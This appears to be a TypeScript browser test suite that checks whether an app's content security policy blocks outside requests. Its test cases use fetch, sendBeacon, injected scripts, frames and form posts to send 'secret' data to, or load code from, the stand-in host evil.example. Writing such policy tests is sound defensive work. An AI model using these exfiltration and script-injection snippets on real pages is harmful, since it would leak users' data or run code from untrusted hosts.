import { type Desk, expect, isPolicyViolation } from '../fixture';
import type { Attack } from './attack';

const evil = 'https://evil.example';

/** Each starts to load data from a third party, or to run code that did not come with the app. Then it sets `ran`. */
const pastThePolicy: Readonly<Record<string, (url: string) => unknown>> = {
  fetch: (url) => void fetch(url).catch(() => {}),
  XMLHttpRequest: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  sendBeacon: (url) => window.navigator.sendBeacon(url, 'secret'),
  EventSource: (url) => void new window.EventSource(url),
  WebSocket: (url) => void new window.WebSocket(url.replace('https', 'wss')),
  'a picture': (url) => {
    new Image().src = url;
  },
  'a script': (url) => document.head.append(Object.assign(document.createElement('script'), { src: url })),
  'a module': (url) =>
    document.head.append(Object.assign(document.createElement('script'), { src: url, type: 'module' })),
  'a style sheet': (url) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
  'a font': (url) => void new FontFace('f', `url(${url})`).load().catch(() => {}),
  'a frame': (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
  'an object': (url) => document.body.append(Object.assign(document.createElement('object'), { data: url })),
  'an embedded page': (url) =>
    document.body.append(Object.assign(document.createElement('embed'), { src: url })),
  'a video': (url) =>
    document.body.append(Object.assign(document.createElement('video'), { src: url, preload: 'auto' })),
  'a sound': (url) =>
    document.body.append(Object.assign(document.createElement('audio'), { src: url, preload: 'auto' })),
  'another base': (url) => {
    const base = Object.assign(document.createElement('base'), { href: url });
    document.head.prepend(base);
    Object.assign(globalThis, { ran: document.baseURI.startsWith(url) });
    base.remove();
  },
  'an inline script': () =>
    document.head.append(
      Object.assign(document.createElement('script'), { textContent: 'globalThis.ran = true' }),
    ),
  'an inline handler': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.ran = true');
    document.body.append(button);
    button.click();
    button.remove();
  },
  'an inline style': () => {
    const style = Object.assign(document.createElement('style'), { textContent: 'html { --ran: 1 }' });
    document.head.append(style);
    const ran = getComputedStyle(document.documentElement).getPropertyValue('--ran') !== '';
    Object.assign(globalThis, { ran });
    style.remove();
  },
  'a worker of a blob': () => {
    const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
    new Worker(url).onmessage = () => Object.assign(globalThis, { ran: true });
  },
};

/**
 * Each sends the page's data to a third party and would navigate a frame with it. A second gate also blocks that
 * navigation.
 */
const byForm: Readonly<Record<string, (url: string) => unknown>> = {
  'a form that is sent': (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
    form.append(Object.assign(document.createElement('input'), { name: 'words', value: 'secret' }));
    document.body.append(form);
    form.submit();
    form.remove();
  },
  'a form that is sent into a frame': (url) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'sent' });
    const form = Object.assign(document.createElement('form'), { action: url, target: 'sent' });
    form.append(Object.assign(document.createElement('input'), { name: 'words', value: 'secret' }));
    document.body.append(frame, form);
    form.submit();
  },
  'a button with an address of its own': (url) => {
    const form = document.createElement('form');
    const button = Object.assign(document.createElement('button'), { formAction: url, formMethod: 'post' });
    form.append(button);
    document.body.append(form);
    form.requestSubmit(button);
    form.remove();
  },
};

const policyAttack =
  (gate: string) =>
  ([name, attack]: [string, (url: string) => unknown]): Attack => ({
    name: `${name} past the policy`,
    gate,
    code: 'POLICY_VIOLATED',
    run: ({ desk }) => tryPastThePolicy(desk, attack),
  });

export const contentAttacks: readonly Attack[] = [
  ...Object.entries(pastThePolicy).map(policyAttack('contentPolicy')),
  ...Object.entries(byForm).map(policyAttack('contentPolicy,navigation')),
];

interface Watching {
  violations?: number;
  ran?: boolean;
}

async function tryPastThePolicy(
  { page, problems }: Desk,
  attack: (url: string) => unknown,
): Promise<string | undefined> {
  const left: string[] = [];
  page.once('websocket', (socket) => left.push(socket.url()));
  await page.route(`${evil}/**`, async (route) => {
    left.push(route.request().url());
    await route.fulfill({ status: 204, headers: { 'access-control-allow-origin': '*' } });
  });
  try {
    await page.evaluate(() => {
      const own = globalThis as unknown as Watching;
      const isWatching = own.violations !== undefined;
      Object.assign(own, { violations: 0, ran: false });
      if (!isWatching)
        document.addEventListener(
          'securitypolicyviolation',
          () => void (own.violations = (own.violations ?? 0) + 1),
        );
    });
    await page.evaluate(attack, `${evil}/out?secret=1`);
    const look = () =>
      page.evaluate(() => {
        const { violations, ran } = globalThis as unknown as Watching;
        return { violations: violations ?? 0, ran: ran === true };
      });
    const outcome = async () => {
      const { violations, ran } = await look();
      if (ran || left.length > 0) return 'through';
      return violations > 0 ? 'refused' : 'unknown';
    };
    await expect.poll(outcome).not.toBe('unknown');
    return (await outcome()) === 'refused' ? 'POLICY_VIOLATED' : undefined;
  } finally {
    await page.unroute(`${evil}/**`);
    // These were asked for; any other still fails the spec.
    for (let at = problems.findIndex(isPolicyViolation); at >= 0; at = problems.findIndex(isPolicyViolation))
      problems.splice(at, 1);
  }
}
